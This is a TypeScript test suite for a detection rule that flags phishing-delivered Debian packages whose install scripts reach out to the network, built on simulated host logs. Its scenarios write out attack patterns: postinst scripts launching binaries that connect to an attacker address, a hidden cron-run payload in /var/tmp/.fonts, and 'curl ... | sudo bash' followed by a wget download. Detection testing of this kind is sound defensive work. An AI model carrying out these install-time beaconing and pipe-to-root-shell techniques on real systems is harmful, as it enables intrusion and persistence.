import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AnalyticId, Severity } from '../events/vocabulary.ts';
import type { Process } from './an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  scanLog,
  storyOf,
} from './an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const FILE = '/home/dev/Downloads/reader_2.1_amd64.deb';

/** The package lies in the download folder: a browser or a mail client put it there. */
function arrived(by: 'web' | 'mail'): { log: HostLog; shell: Process } {
  const log = new HostLog();
  if (by === 'web') {
    const browser = log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
    browser.write(`${FILE}.part`).rename(`${FILE}.part`, FILE);
  } else {
    const message = log.deliver({ to: 'dev' });
    log.wait(MINUTE);
    log.desktop('dev').run('/usr/lib/thunderbird/thunderbird').read(message.path).write(FILE);
  }
  log.wait(MINUTE);
  return { log, shell: log.shell('dev') };
}

/** `sudo dpkg -i`: unpacks `files` and returns the maintainer script. Each file is written under another name first. */
function install(shell: Process, files: readonly string[]): Process {
  const sudo = shell.run(`/usr/bin/sudo dpkg -i ${FILE}`);
  const dpkg = sudo.run(`/usr/bin/dpkg -i ${FILE}`, { who: { ...sudo.who, uid: 0 } });
  const info = '/var/lib/dpkg/tmp.ci/postinst';
  dpkg.run(`/usr/bin/dpkg-deb --control ${FILE} /var/lib/dpkg/tmp.ci`).read(FILE).write(info);
  dpkg.run(`/usr/bin/dpkg-deb --fsys-tarfile ${FILE}`).read(FILE);
  for (const path of files) dpkg.write(`${path}.dpkg-new`).rename(`${path}.dpkg-new`, path);
  dpkg.rename(info, '/var/lib/dpkg/info/reader.postinst');
  return dpkg.run('/var/lib/dpkg/info/reader.postinst configure', { by: '/bin/sh' });
}

const ATTACKS: readonly (readonly [says: string, files: readonly string[], act: (script: Process) => void])[] = [
  [
    'a program of its own, in /usr/bin',
    ['/usr/bin/reader'],
    script => void script.run('/usr/bin/reader').connect(OUT, 443),
  ],
  [
    'a program of its own through the other name of a merged directory',
    ['/bin/reader'],
    script => {
      const { records } = script;
      records.move('/bin/reader', '/usr/bin/reader');
      script.run('/usr/bin/reader').connect(OUT, 443);
    },
  ],
  [
    'a script of its own, by an interpreter that was there before',
    ['/usr/share/reader/setup.py'],
    script => {
      script.run('/usr/bin/python3 /usr/share/reader/setup.py').read('/usr/share/reader/setup.py').connect(OUT, 443);
    },
  ],
  [
    'a child of its own program',
    ['/opt/reader/bin/reader'],
    script => void script.run('/opt/reader/bin/reader').run('/usr/bin/ssh -N u@x').connect(OUT, 22),
  ],
  [
    'a program of its own behind setsid',
    ['/usr/sbin/readerd'],
    script => void script.run('/usr/bin/setsid /usr/sbin/readerd').exec('/usr/sbin/readerd').connect(OUT, 8443),
  ],
];

for (const [by, analytic] of [
  ['web', 'AN0321'],
  ['mail', 'AN0656'],
] as const satisfies readonly (readonly ['web' | 'mail', AnalyticId])[]) {
  for (const [says, files, act] of ATTACKS)
    test(`a package come by ${by}: while it is installed, ${says}, reaches out`, async () => {
      const { log, shell } = arrived(by);
      act(install(shell, files));
      const alert = firesAt(await scanLog(log), analytic, 'high');
      assert.ok(!factorsOf(alert).includes('only programs that were installed before connected'));
    });

  test(`a package come by ${by}: its script writes a program elsewhere with an installed tool, and cron runs that`, async () => {
    const { log, shell } = arrived(by);
    const script = install(shell, ['/usr/share/reader/data.bin']);
    const copy = script.run('/usr/bin/install -m 755 /usr/share/reader/data.bin /var/tmp/.fonts');
    copy.read('/usr/share/reader/data.bin').write('/var/tmp/.fonts');
    script.write('/etc/cron.d/reader');
    log.wait(7 * MINUTE);
    log.cron('root', '/var/tmp/.fonts').run('/var/tmp/.fonts').connect(OUT, 443);
    firesAt(await scanLog(log), analytic, 'medium');
  });

  const LOOKALIKES: readonly (readonly [says: string, act: (log: HostLog, shell: Process) => void])[] = [
    [
      'a program that was there before connects, as writes into its directory are recorded',
      (_, shell) => void install(shell, ['/usr/sbin/readerd']).run('/usr/sbin/readerctl').connect('198.51.100.7', 443),
    ],
    [
      'a program that ran before connects',
      (log, shell) => {
        log.service('/usr/lib/other/agent');
        install(shell, ['/usr/bin/reader']).run('/usr/lib/other/agent').connect('198.51.100.7', 443);
      },
    ],
    [
      'the package manager fetches what it needs',
      (_, shell) => {
        const sudo = shell.run(`/usr/bin/sudo apt install ${FILE}`);
        const apt = sudo.run(`/usr/bin/apt install ${FILE}`, { who: { ...sudo.who, uid: 0 } }).read(FILE);
        apt.run('/usr/lib/apt/methods/https').connect('198.51.100.5', 443).write('/var/cache/apt/archives/libz.deb');
        apt.run(`/usr/bin/dpkg --unpack ${FILE}`).read(FILE).write('/usr/bin/reader');
      },
    ],
  ];
  for (const [says, act] of LOOKALIKES)
    test(`a package come by ${by}: while it is installed, ${says}: low`, async () => {
      const { log, shell } = arrived(by);
      act(log, shell);
      const alerts = await scanLog(log);
      atMostAt(alerts, 'low');
      assert.ok(factorsOf(storyOf(alerts, analytic)).includes('only programs that were installed before connected'));
    });

  const quietest: Severity = by === 'web' ? 'informational' : 'low';
  for (const [says, act] of [
    ['its script only registers things', () => {}],
    [
      'a person uses the program later',
      (log: HostLog) => {
        log.wait(20 * MINUTE);
        log.desktop('dev').run('/usr/bin/reader').connect('198.51.100.9', 443);
      },
    ],
    [
      'systemd starts its service',
      (log: HostLog) => {
        log.wait(2 * SECOND);
        log.service('/usr/sbin/readerd').connect('198.51.100.9', 443);
      },
    ],
  ] as const)
    test(`a package come by ${by}: it is installed, and ${says}: ${quietest}`, async () => {
      const { log, shell } = arrived(by);
      const script = install(shell, ['/usr/bin/reader', '/usr/sbin/readerd', '/lib/systemd/system/readerd.service']);
      script.run('/usr/bin/systemctl daemon-reload');
      script.run('/usr/bin/update-desktop-database -q');
      act(log);
      atMostAt(await scanLog(log), quietest);
    });
}

test("a daemon of a package of the distribution's own mirror, started by its script, connects: nothing is told", async () => {
  const log = new HostLog();
  const shell = log.shell('dev');
  const apt = shell.run('/usr/bin/apt install timed', { who: { ...shell.who, uid: 0 } });
  apt.run('/usr/lib/apt/methods/http').connect('198.51.100.5', 80).write('/var/cache/apt/archives/timed.deb');
  const dpkg = apt.run('/usr/bin/dpkg --unpack /var/cache/apt/archives/timed.deb');
  dpkg.read('/var/cache/apt/archives/timed.deb').write('/usr/sbin/timed');
  dpkg.run('/var/lib/dpkg/info/timed.postinst configure', { by: '/bin/sh' }).run('/usr/sbin/timed').connect(OUT, 123);
  assert.deepEqual(await scanLog(log), []);
});

test('a package fetched after browsing and only installed is no pasted command; fed to a shell of root it is', async () => {
  const fetched = (): { log: HostLog; shell: Process } => {
    const log = new HostLog();
    log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
    log.wait(MINUTE);
    return { log, shell: log.shell('dev') };
  };
  const quiet = fetched();
  const wget = quiet.shell.run('/usr/bin/wget https://vendor.example.com/r.deb', { cwd: '/home/dev/Downloads' });
  wget.connect('203.0.113.81', 443).write(FILE);
  install(quiet.shell, ['/usr/bin/reader']).run('/usr/sbin/ldconfig');
  atMostAt(await scanLog(quiet.log), 'informational');
  const loud = fetched();
  const [, sudo] = loud.shell.pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/usr/bin/sudo bash');
  sudo
    ?.run('/bin/bash', { who: { ...sudo.who, uid: 0 } })
    .run(`/usr/bin/wget http://${OUT}/b`)
    .connect(OUT, 80);
  firesAt(await scanLog(loud.log), 'AN0321', 'medium');
});

for (const by of ['web', 'mail'] as const)
  test(`a package that came by ${by} and is only looked into and unpacked`, async () => {
    const { log, shell } = arrived(by);
    shell.run(`/usr/bin/dpkg-deb -I ${FILE}`).read(FILE);
    shell.run(`/usr/bin/dpkg -c ${FILE}`).run(`/usr/bin/dpkg-deb -c ${FILE}`).read(FILE);
    shell
      .run(`/usr/bin/dpkg -x ${FILE} out`)
      .run(`/usr/bin/dpkg-deb -x ${FILE} out`)
      .read(FILE)
      .write('/home/dev/out/a');
    const told = (await scanLog(log)).filter(alert => alert.analytic === 'AN0656' || alert.analytic === 'AN0321');
    assert.deepEqual(
      told.map(alert => alert.title),
      [],
    );
  });
